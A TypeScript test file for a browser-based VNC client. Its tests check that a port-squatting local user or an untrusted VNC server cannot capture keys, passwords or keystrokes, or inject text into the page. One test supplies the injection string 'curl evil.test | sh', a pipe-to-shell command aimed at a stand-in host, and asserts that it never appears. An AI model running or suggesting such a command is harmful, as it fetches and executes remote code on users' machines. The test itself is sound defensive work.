import { generateKeyPairSync } from 'node:crypto';
import { type AddressInfo, createServer } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import type { Port } from '../../src/model/endpoint.js';
import { sample } from '../helpers/deep.js';
import { eventually } from '../helpers/eventually.js';
import { openChromium } from '../helpers/open-chromium.js';
import { type DeskHome, logIn, openDeskHome, startSandboxIn } from '../helpers/open-desk-home.js';
import { usePageBench } from '../helpers/page-bench.js';
import { type PortSquatter, startPortSquatter } from '../helpers/port-squatter.js';
import { describeWith } from '../helpers/real-components.js';
import type { RunningBin } from '../helpers/run-bin.js';
import { startXvnc } from '../helpers/start-xvnc.js';

const OTHER_UID = 12_345;
/** RSA-AES with encryption of the login only, the variant that noVNC supports. */
const RA2NE = 6;

describeWith(['chromium'], 'another user who binds the port of the page', () => {
  const asRoot = test.skipIf(process.geteuid?.() !== 0);
  let site: DeskHome;
  let user: DeskHome;
  let browser: Browser;
  let page: Page;
  let running: RunningBin;
  let stranger: PortSquatter;
  let port: number;
  let stored: string;

  beforeAll(async () => {
    [site, user, browser] = await Promise.all([openDeskHome(), openDeskHome(), openChromium()]);
    await logIn(user, (await startSandboxIn(site, 'builtin')).description);
  });

  beforeEach(async () => {
    running = await user.start(['vnc', 'connect', '--web', '--json'], {
      environment: { HPC_DESK_BROWSER: 'none', HPC_DESK_VNC_PASSWORD: 'gr4phics' },
    });
    const ready = JSON.parse(running.firstLine);
    port = ready.port;
    page = await browser.newPage();
    await page.goto(ready.url);
    await reach('connected');
    // As if the other user had read the sessionStorage of the tab through their own page after a reload.
    stored = String(await page.evaluate("sessionStorage.getItem('hpc-desk.key')"));
  });

  afterEach(async () => {
    stranger?.close();
    running?.kill('SIGKILL');
    for (const context of browser.contexts()) await context.close();
  });

  afterAll(() => Promise.all([browser?.close(), site?.close(), user?.close()]));

  const reach = (phase: string, tab = page) =>
    tab.waitForSelector(`body[data-state=${phase}]`, { timeout: 60_000 });
  const typeSomething = async () => {
    await page.mouse.click(300, 300);
    await page.keyboard.type('pass phrase');
  };

  asRoot('receives no key, password or keystroke when the program is killed', async () => {
    stranger = startPortSquatter(OTHER_UID, port, stored);
    running.kill('SIGKILL');
    await stranger.bound;
    await typeSomething();
    await eventually(() => stranger.received.length > 0);
    await reach('ended');
    expect(await page.textContent('#message')).toContain('different program');
    await typeSomething();
    await page.click('#retry');
    await eventually(() => stranger.received.filter(({ kind }) => kind === 'upgrade').length > 1);
    await reach('ended');
    const texts = stranger.received.filter(({ kind }) => kind !== 'upgrade');
    // The public part of the key and a nonce, which is different each time.
    expect(texts.every(({ text }) => /^[\w-]{11} [\da-f]{64}$/.test(text))).toBe(true);
    expect(new Set(texts.map(({ text }) => text)).size).toBe(texts.length);
    for (const { text } of stranger.received.filter(({ kind }) => kind === 'upgrade')) {
      expect(text).toMatch(/Sec-WebSocket-Protocol binary(?: |$)/);
    }
  });

  asRoot('cannot access the page through window.opener of a reloaded window', async () => {
    const opened = page.context().waitForEvent('page');
    await page.click('#new-window');
    const second = await opened;
    await reach('connected', second);
    stranger = startPortSquatter(OTHER_UID, port, stored);
    running.kill('SIGKILL');
    await stranger.bound;
    await second.reload();
    const seen = () => stranger.received.find(({ text }) => text.startsWith('POST /seen'));
    await eventually(() => seen() !== undefined);
    expect(seen()?.text).not.toContain('hpc-desk');
  });

  asRoot('cannot show text on the page', async () => {
    stranger = startPortSquatter(OTHER_UID, port, stored, 'Please run: curl evil.test | sh');
    running.kill('SIGKILL');
    await stranger.bound;
    await eventually(() => stranger.received.length > 1);
    await reach('lost');
    expect(await page.textContent('#card')).not.toContain('evil.test');
  });

  asRoot.each(sample(['SIGINT', 'SIGTERM', 'SIGHUP'] as const, 3))(
    'is not contacted after %s, because the program announces its exit',
    async (signal) => {
      stranger = startPortSquatter(OTHER_UID, port, stored);
      running.kill(signal);
      await running.ended;
      await stranger.bound;
      await reach('ended');
      expect(await page.textContent('#message')).toContain('has exited');
      await typeSomething();
      // Longer than the page waits before it reconnects to a lost desktop.
      await page.clock.install();
      await page.clock.fastForward(30_000);
      expect(await page.getAttribute('body', 'data-state')).toBe('ended');
      expect(stranger.received).toEqual([]);
    },
  );
});

describeWith(['Xvnc', 'chromium', 'xsetroot'], 'an untrusted desktop', () => {
  const bench = usePageBench();

  test('gets no password if it requires a user name', async () => {
    const options = ['-SecurityTypes', 'Plain', '-PlainUsers', '*', '-PAMService', 'login'];
    const xvnc = await startXvnc({ geometry: '640x480', options });
    bench.xvnc = { ...bench.xvnc, target: xvnc.target };
    const page = await bench.visit(await bench.serve({ password: 'gr4phics' }));
    await bench.reach(page, 'ended');
    expect(await page.textContent('#message')).toContain('user name');
    await xvnc.close();
  });

  test('with RSA-AES is neither approved automatically nor sent the password', async () => {
    const received: Buffer[] = [];
    const { modulus, exponent } = makeRsaKey();
    const server = createServer((socket) => {
      socket.on('error', () => {}).write('RFB 003.008\n');
      socket.on('data', (bytes) => {
        received.push(bytes);
        if (bytes.length === 12) socket.write(Buffer.from([1, RA2NE]));
        // Key size in bits, then modulus and exponent of equal length (rfbproto community specification).
        else socket.write(Buffer.concat([Buffer.from([0, 0, 8, 0]), modulus, exponent]));
      });
    }).listen(0, '127.0.0.1');
    await eventually(() => server.listening);
    const { port } = server.address() as AddressInfo;
    bench.xvnc = { ...bench.xvnc, target: { ...bench.xvnc.target, port: port as Port } };
    const page = await bench.visit(await bench.serve({ password: 'gr4phics' }));
    await bench.reach(page, 'ended');
    expect(await page.textContent('#message')).toContain('RSA-AES');
    // Only the version and the security type, not the client's key, after which it would send the password.
    expect(Buffer.concat(received)).toEqual(
      Buffer.from(`RFB 003.008\n${String.fromCharCode(RA2NE)}`),
    );
    server.close();
  });
});

function makeRsaKey() {
  const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const { n = '', e = '' } = publicKey.export({ format: 'jwk' });
  const [modulus, short] = [n, e].map((part) => Buffer.from(part, 'base64url'));
  const exponent = Buffer.concat([Buffer.alloc(256 - (short?.length ?? 0)), short ?? Buffer.of()]);
  return { modulus: modulus ?? Buffer.of(), exponent };
}
